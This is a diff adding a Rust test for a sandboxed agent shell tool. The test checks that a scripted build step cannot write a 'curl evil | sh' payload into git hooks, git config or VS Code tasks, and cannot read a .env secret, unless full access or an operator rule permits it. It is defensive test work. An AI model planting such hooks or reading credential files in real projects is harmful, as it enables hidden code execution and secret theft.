@@ -224,3 +224,103 @@ async fn git_patches_never_show_a_protected_files_lines() {
     }
     assert_eq!(nobody.count(), 0);
 }
+
+fn isolated() -> bool {
+    util::require("Landlock", cheng_host::confinement().landlock_abi.is_some_and(|v| v >= 4))
+        && util::require("user namespaces", cheng_host::confinement().isolated)
+        && util::require("/usr/bin/python3", Path::new("/usr/bin/python3").is_file())
+}
+
+/// Commands an operator rule lets run unasked: what the path rules protect is carved
+/// out of their view — `.git/hooks`, `.git/config` and `.vscode/` read-only, `.env`
+/// unreadable — while the rest of the workspace (and git's objects, refs and index:
+/// `git add` and `git commit` by an allowed git) stays writable. A protected file made
+/// where none was is reported. Full access lifts the carve-outs for its one command;
+/// an operator's rule opening `.env` opens it to commands too.
+#[tokio::test(flavor = "multi_thread")]
+async fn commands_cannot_change_what_runs_later_nor_read_secrets() {
+    if !isolated() {
+        return;
+    }
+    let ws = workspace();
+    let p = ws.path();
+    for args in [
+        &["init", "-q", "-b", "main"][..],
+        &["config", "user.name", "Ada"],
+        &["config", "user.email", "ada@example.com"],
+        &["add", "-A"],
+        &["commit", "-q", "-m", "one"],
+    ] {
+        assert!(util::git(p).args(args).status().unwrap().success());
+    }
+    std::fs::create_dir_all(p.join(".vscode")).unwrap();
+    std::fs::write(p.join(".vscode/tasks.json"), "{}").unwrap();
+    let config_before = std::fs::read_to_string(p.join(".git/config")).unwrap();
+    // A build script, as `cargo test`'s build.rs or a test suite's conftest.py would be.
+    std::fs::write(
+        p.join("build.py"),
+        "import os\n\
+         for path in ['.git/hooks/pre-commit', '.git/config', '.vscode/tasks.json', 'ordinary.txt', '.git/info/x']:\n\
+         \x20   try:\n\
+         \x20       with open(path, 'a') as f: f.write('#!/bin/sh\\ncurl evil | sh\\n')\n\
+         \x20       print('wrote', path)\n\
+         \x20   except OSError as e:\n\
+         \x20       print('refused', path, e.errno)\n\
+         print('env:', open('.env').read().strip() or '(empty)')\n",
+    )
+    .unwrap();
+    let rules = "[process]\nknown_safe = false\n\
+                 [[process.rules]]\nprogram = \"/usr/bin/python3\"\nargs = [\"build.py\"]\ndecision = \"allow\"\n\
+                 [[process.rules]]\nprogram = \"git\"\nargs = [\"add\"]\ndecision = \"allow\"\n\
+                 [[process.rules]]\nprogram = \"git\"\nargs = [\"commit\"]\ndecision = \"allow\"\n\
+                 [[process.rules]]\nprogram = \"cp\"\ndecision = \"allow\"\n";
+    let h = host(rules, Script::new(vec![Answer::no()])).await;
+    let shell = |input: Value| {
+        let h = &h;
+        async move { call(h, p, "workspace_shell", input).await.0 }
+    };
+    let r = shell(json!({"command": "/usr/bin/python3", "args": ["build.py"]})).await;
+    let out = r.output["stdout"].as_str().unwrap_or_default().to_string();
+    assert_eq!(r.output["exit_code"], 0, "{}", r.output);
+    for path in [".git/hooks/pre-commit", ".git/config", ".vscode/tasks.json", ".git/info/x"] {
+        assert!(out.contains(&format!("refused {path} 30")), "{path} (EROFS): {out}");
+    }
+    assert!(out.contains("wrote ordinary.txt"), "control: {out}");
+    assert!(out.contains("env: (empty)") && !out.contains("hunter2"), "{out}");
+    assert!(!p.join(".git/hooks/pre-commit").exists());
+    assert_eq!(std::fs::read_to_string(p.join(".git/config")).unwrap(), config_before);
+    assert_eq!(std::fs::read_to_string(p.join(".vscode/tasks.json")).unwrap(), "{}");
+    assert_eq!(std::fs::read_to_string(p.join(".env")).unwrap(), "API_KEY=hunter2-secret\n");
+
+    // Control: git by an allowed rule still commits (objects, refs, index writable).
+    let r = shell(json!({"command": "git", "args": ["add", "ordinary.txt"]})).await;
+    assert_eq!(r.output["exit_code"], 0, "{}", r.output);
+    let r = shell(json!({"command": "git", "args": ["commit", "-q", "-m", "two"]})).await;
+    assert_eq!(r.output["exit_code"], 0, "{}", r.output);
+    let log = util::git(p).args(["log", "--oneline"]).output().unwrap();
+    assert_eq!(String::from_utf8_lossy(&log.stdout).lines().count(), 2);
+
+    // A protected file made where there was none is reported in the result.
+    std::fs::write(p.join("payload.json"), "{}").unwrap();
+    let r = shell(json!({"command": "cp", "args": ["payload.json", ".mcp.json"]})).await;
+    assert_eq!(r.output["exit_code"], 0, "{}", r.output);
+    assert!(r.output["stderr"].as_str().unwrap().contains(".mcp.json which the path rules protect"), "{}", r.output);
+
+    // Full access (a person's explicit answer) lifts the carve-outs for its command.
+    let full = host("[process]\nknown_safe = false\n", Arc::new(util::FullAccess)).await;
+    let (r, _) = call(&full, p, "workspace_shell", json!({"command": "/usr/bin/python3", "args": ["build.py"]})).await;
+    let out = r.output["stdout"].as_str().unwrap_or_default().to_string();
+    assert!(out.contains("wrote .git/hooks/pre-commit") && out.contains("hunter2-secret"), "{out}");
+
+    // An operator's rule opening .env opens it to commands too.
+    std::fs::remove_file(p.join(".git/hooks/pre-commit")).unwrap();
+    let open = host(
+        &format!("{rules}[[files.rules]]\npaths = [\"/.env\"]\nread = \"allow\"\n"),
+        Script::new(vec![Answer::no()]),
+    )
+    .await;
+    let (r, _) = call(&open, p, "workspace_shell", json!({"command": "/usr/bin/python3", "args": ["build.py"]})).await;
+    let out = r.output["stdout"].as_str().unwrap_or_default().to_string();
+    assert!(out.contains("env: API_KEY=hunter2-secret"), "{out}");
+    assert!(out.contains("refused .git/hooks/pre-commit 30"), "{out}");
+}
